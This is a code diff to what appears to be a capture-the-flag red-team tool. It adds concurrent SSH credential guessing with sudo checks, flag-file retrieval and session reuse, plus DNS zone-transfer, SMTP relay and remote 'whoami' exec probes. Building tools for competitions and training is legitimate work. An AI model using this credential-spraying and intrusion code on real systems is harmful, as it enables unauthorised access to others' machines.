@@ -1,7 +1,11 @@
 import logging
 import os
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
+from datetime import datetime, timedelta
 from smtplib import SMTP
-from typing import Tuple
+from typing import Dict, Tuple, Optional, List
 
 import dns.query
 import dns.zone
@@ -12,8 +16,10 @@ from faker import Faker
 
 from flag_slurper.autolib.post import PostContext
 from .exploit import find_flags, FlagConf, can_sudo, get_file_contents, get_system_info, LimitCreds
-from .governor import Governor
-from .models import Service, Credential, Flag, CaptureNote, DNSResult
+from .governor import Governor, Throttled
+from .priority import hit_rates, rank_credentials
+from .models import Service, Credential, CredentialBag
+from .sessions import SSHSessions
 from .utils import limited_credentials
 
 logger = logging.getLogger(__name__)
@@ -26,76 +32,238 @@ def _get_ssh_client():
     return ssh
 
 
-def pwn_ssh(url: str, port: int, service: Service, flag_conf: FlagConf,
-            limit_creds: LimitCreds, context: PostContext) -> Tuple[str, bool, bool]:
+def _autopwn_config():
+    # Imported here since the config module itself depends on autolib
+    from flag_slurper.conf.config import Config
+    return Config.get_instance()['autopwn']
+
+
+def _timeout(protocol: str) -> float:
+    """
+    The connect and response timeout for a protocol, from ``autopwn->{protocol}_timeout``.
+    """
+    from flag_slurper.utils import parse_duration
+    return parse_duration(_autopwn_config()['{}_timeout'.format(protocol)])
+
+
+def ssh_timeouts() -> Dict[str, float]:
+    """
+    The timeouts to pass to ``SSHClient.connect``, so a blackholed host can't hang a login.
+    """
+    timeout = _timeout('ssh')
+    return {'timeout': timeout, 'banner_timeout': timeout, 'auth_timeout': timeout}
+
+
+def _expired(deadline: Optional[float]) -> bool:
+    return deadline is not None and time.time() >= deadline
+
+
+SSHLogin = Tuple[paramiko.SSHClient, bool]
+
+
+def _ssh_login(url: str, port: int, credential: CredentialBag) -> Optional[SSHLogin]:
+    """
+    Attempt to log into a service with a single credential.
+
+    :param url: The host to connect to
+    :param port: The port to connect to
+    :param credential: The credential to try
+    :return: The connected client and whether it can sudo, or None if the login failed
+    :raises Throttled: If the governor won't allow the attempt yet
+    """
+    # Govern if necessary (and enabled)
+    gov = Governor.get_instance()
+    ipaddr = gov.resolve_url(url)
+    not_before = gov.attempt(ipaddr)
+    if not_before is not None:
+        raise Throttled(ipaddr, not_before)
+
     ssh = _get_ssh_client()
+    try:
+        logger.debug("Attempting %s with creds: %s", url, credential)
+        ssh.connect(url, port=port, username=credential.username, password=credential.password,
+                    look_for_keys=False, allow_agent=False, **ssh_timeouts())
 
-    working = set()
-    credentials = limited_credentials(limit_creds)
-    context.update({
-        'ssh': ssh,
-        'credentials': credentials,
-    })
+        # Root doesn't need sudo
+        sudo = credential.username != "root" and can_sudo(ssh, credential.password)
+        return ssh, sudo
+    except paramiko.ssh_exception.AuthenticationException:
+        pass
+    except Exception:
+        logger.exception("There was an error pwning this service: %s", url)
+    ssh.close()
+    return None
 
-    for credential in credentials:
-        # Govern if necessary (and enabled)
-        gov = Governor.get_instance()
-        gov.attempt(gov.resolve_url(url))
 
-        try:
-            cred = credential.credentials.where(Credential.service == service).get()
-        except Credential.DoesNotExist:
-            cred = Credential.create(service=service, state=Credential.REJECT, bag=credential)
+def _ssh_logins(url: str, port: int, credentials: List[CredentialBag], workers: int,
+                deadline: Optional[float] = None) -> Tuple[List[Tuple[CredentialBag, Optional[SSHLogin]]],
+                                                           Optional[float]]:
+    """
+    Try every credential against a single service.
+
+    With more than one worker the attempts fan out over that many concurrent
+    SSH sessions, and once a root or sudo credential is found the remaining
+    attempts are abandoned. The governor is still consulted before every
+    attempt so the per-IP budget holds.
+
+    :param deadline: When to stop starting new attempts, as a timestamp
+    :return: Each credential that was attempted along with its login, and when the governor will allow the
+             credentials that weren't attempted (None if nothing was throttled).
+    """
+    if workers <= 1:
+        logins = []
+        for credential in credentials:
+            if _expired(deadline):
+                break
+            try:
+                logins.append((credential, _ssh_login(url, port, credential)))
+            except Throttled as e:
+                return logins, e.not_before
+        return logins, None
+
+    found_root = threading.Event()
+
+    def _login(credential: CredentialBag):
+        if found_root.is_set() or _expired(deadline):
+            return credential, None, False, None
 
         try:
-            with ssh:
-                logger.debug("Attempting {} with creds: {}".format(url, cred))
-                ssh.connect(url, port=port, username=credential.username, password=credential.password,
-                            look_for_keys=False, allow_agent=False)
-                cred.state = Credential.WORKS
-
-                # Root doesn't need sudo
-                sudo = False
-                if credential.username != "root":
-                    sudo = can_sudo(ssh, credential.password)
-                    if sudo:
-                        cred.sudo = True
-
-                cred.save()
-                working.add(cred)
-
-                sysinfo = get_system_info(ssh)
-                if sudo:
-                    sysinfo += "\nUsed Sudo"
-
-                for flag in flag_conf:
-                    base_dir = flag['location']
-                    enable_search = flag['search']
-                    flag_obj, _ = Flag.get_or_create(team=service.team, name=flag['name'])
-
-                    if flag_conf:
-                        location = flag['name']
-                        full_location = os.path.join(base_dir, location)
-                        sudo_cred = credential.password if sudo else None
-                        flag = get_file_contents(ssh, full_location, sudo=sudo_cred)
-                        if flag:
-                            enable_search = False
-                            CaptureNote.get_or_create(flag=flag_obj, data=flag, location=full_location,
-                                                      notes=str(sysinfo), service=service, used_creds=cred)
-
-                    if enable_search:
-                        local_flags = find_flags(ssh, base_dir=base_dir)
-                        for local_flag in local_flags:
-                            CaptureNote.get_or_create(flag=flag_obj, data=local_flag[1], location=local_flag[0],
-                                                      notes=str(sysinfo), searched=True, service=service,
-                                                      used_creds=cred)
-        except paramiko.ssh_exception.AuthenticationException:
+            login = _ssh_login(url, port, credential)
+        except Throttled as e:
+            return credential, None, False, e.not_before
+
+        if login and (credential.username == "root" or login[1]):
+            found_root.set()
+        return credential, login, True, None
+
+    with ThreadPoolExecutor(max_workers=workers) as executor:
+        attempts = list(executor.map(_login, credentials))
+
+    throttled = [not_before for _, _, _, not_before in attempts if not_before is not None]
+    if found_root.is_set() or not throttled:
+        not_before = None
+    else:
+        not_before = min(throttled)
+    return [(credential, login) for credential, login, attempted, _ in attempts if attempted], not_before
+
+
+def _stale_credentials(credentials: List[CredentialBag], known: Dict[int, Credential]) -> List[CredentialBag]:
+    """
+    Pick the credentials an incremental run should try.
+
+    New credentials, and known ones that haven't been checked within the TTL for their state, are tried. Known
+    working credentials go first, since re-verifying them is usually the quickest way in.
+    """
+    from flag_slurper.utils import parse_duration
+    config = _autopwn_config()
+    ttls = {
+        Credential.WORKS: timedelta(seconds=parse_duration(config['works_ttl'])),
+        Credential.REJECT: timedelta(seconds=parse_duration(config['reject_ttl'])),
+    }
+    now = datetime.now()
+
+    def _stale(credential: CredentialBag) -> bool:
+        cred = known.get(credential.id)
+        return cred is None or cred.checked is None or now - cred.checked >= ttls[cred.state]
+
+    def _works(credential: CredentialBag) -> bool:
+        cred = known.get(credential.id)
+        return cred is not None and cred.state == Credential.WORKS
+
+    return sorted(filter(_stale, credentials), key=lambda credential: not _works(credential))
+
+
+def pwn_ssh(url: str, port: int, service: Service, flag_conf: FlagConf,
+            limit_creds: LimitCreds, context: PostContext) -> Tuple[str, bool, bool]:
+    working = set()
+    credentials = list(limited_credentials(limit_creds))
+    sessions = context.setdefault('sessions', SSHSessions())
+    context['credentials'] = credentials
+    if context.get('priority'):
+        credentials = rank_credentials(credentials, service, hit_rates(service.service_name))
+
+    # Everything we already know about each credential against this service
+    known = {cred.bag_id: cred for cred in Credential.select().where(Credential.service == service)}
+    incremental = context.get('incremental', False)
+
+    # Only attack what's left from a previously throttled run
+    if 'resume' in context:
+        bags = {bag.id: bag for bag in credentials}
+        remaining = set(context['resume']['credentials'])
+        credentials = [credential for credential in credentials if credential.id in remaining]
+        working.update(Credential(bag=bags[bag_id], service=service, state=Credential.WORKS, sudo=sudo)
+                       for bag_id, sudo in context['resume']['working'])
+    elif incremental:
+        credentials = _stale_credentials(credentials, known)
+        if not credentials:
+            return 'Every credential was checked recently', False, True
+
+    workers = _autopwn_config().getint('ssh_workers', 1)
+    deadline = context.get('deadline')
+    logins, not_before = _ssh_logins(url, port, credentials, workers, deadline)
+    if not_before is None and len(logins) < len(credentials) and _expired(deadline):
+        # Credentials skipped for a root login don't count, only those the deadline cut off
+        context['timed_out'] = not any(login and (cred.username == 'root' or login[1]) for cred, login in logins)
+
+    for credential, login in logins:
+        if not login:
+            # In incremental runs a credential that no longer works was tried to re-verify it
+            cred = known.get(credential.id)
+            revoke = incremental and cred is not None and cred.state == Credential.WORKS
+            context.records.credential(credential, service, works=False, revoke=revoke)
             continue
+
+        ssh, sudo = login
+        try:
+            context.records.credential(credential, service, works=True, sudo=sudo)
+            working.add(Credential(bag=credential, service=service, state=Credential.WORKS, sudo=sudo))
+
+            sysinfo = get_system_info(ssh)
+            if sudo:
+                sysinfo += "\nUsed Sudo"
+
+            for flag in flag_conf:
+                base_dir = flag['location']
+                enable_search = flag['search']
+                flag_name = flag['name']
+                context.records.flag(service.team, flag_name)
+
+                if flag_conf:
+                    location = flag['name']
+                    full_location = os.path.join(base_dir, location)
+                    sudo_cred = credential.password if sudo else None
+                    flag = get_file_contents(ssh, full_location, sudo=sudo_cred)
+                    if flag:
+                        enable_search = False
+                        context.records.capture(service.team, flag_name, service, credential, data=flag,
+                                                location=full_location, notes=str(sysinfo))
+
+                if enable_search:
+                    local_flags = find_flags(ssh, base_dir=base_dir)
+                    for local_flag in local_flags:
+                        context.records.capture(service.team, flag_name, service, credential, data=local_flag[1],
+                                                location=local_flag[0], notes=str(sysinfo), searched=True)
         except Exception:
             logger.exception("There was an error pwning this service: %s", url)
+            ssh.close()
+        else:
+            # Keep the session open for the post plugins
+            sessions.add(url, port, credential.username, ssh)
+
+    if not_before is not None:
+        attempted = {credential.id for credential, _ in logins}
+        context['not_before'] = not_before
+        context['resume'] = {
+            'credentials': [credential.id for credential in credentials if credential.id not in attempted],
+            'working': [[cred.bag.id, cred.sudo] for cred in working],
+        }
 
     if working:
         return "Found credentials: {}".format(working), True, False
+    elif not_before is not None:
+        return 'Throttled by the governor', False, False
+    elif context.get('timed_out'):
+        return 'Ran out of time after {} credential(s)'.format(len(logins)), False, False
     else:
         return 'Authentication failed', False, False
 
@@ -103,11 +271,12 @@ def pwn_ssh(url: str, port: int, service: Service, flag_conf: FlagConf,
 def pwn_dns(url: str, port: int, service: Service, flag_conf: FlagConf,
             limit_creds: LimitCreds, context: PostContext) -> Tuple[str, bool, bool]:
     try:
-        z = dns.zone.from_xfr(dns.query.xfr(url, service.team.domain))
+        timeout = _timeout('dns')
+        z = dns.zone.from_xfr(dns.query.xfr(url, service.team.domain, timeout=timeout, lifetime=timeout))
         names = z.nodes.keys()
         for name in names:
             record = z[name]
-            DNSResult.get_or_create(team=service.team, name=name.to_text(), record=record.to_text(name))
+            context.records.dns(service.team, name.to_text(), record.to_text(name))
     except DNSException:
         return 'Unable to AXFR', False, False
     except:
@@ -120,7 +289,7 @@ def pwn_dns(url: str, port: int, service: Service, flag_conf: FlagConf,
 def pwn_smtp(url: str, port: int, service: Service, flag_conf: FlagConf,
              limit_creds: LimitCreds, context: PostContext) -> Tuple[str, bool, bool]:
     try:
-        with SMTP(url, port=port) as smtp:
+        with SMTP(url, port=port, timeout=_timeout('smtp')) as smtp:
             smtp.helo(fake.hostname())
             smtp.docmd('MAIL FROM:', fake.email())
             result = smtp.docmd('RCPT TO:', fake.email())
@@ -137,7 +306,8 @@ def pwn_smtp(url: str, port: int, service: Service, flag_conf: FlagConf,
 def pwn_api_exec(url: str, port: int, service: Service, flag_conf: FlagConf,
                  limit_creds: LimitCreds, context: PostContext) -> Tuple[str, bool, bool]:
     try:
-        resp = requests.post(f"http://{url}/api/exec", {'command': 'whoami'}, verify=False)
+        resp = requests.post(f"http://{url}:{port}/api/exec", {'command': 'whoami'}, verify=False,
+                             timeout=_timeout('http'))
         if resp.status_code == 200:
             context['api-exec'] = True
             context['api-exec-response'] = resp.content
@@ -149,6 +319,7 @@ def pwn_api_exec(url: str, port: int, service: Service, flag_conf: FlagConf,
     else:
         return 'No api-exec', False, False
 
+
 PWN_FUNCS = {
     'ssh': pwn_ssh,
     'dns': pwn_dns,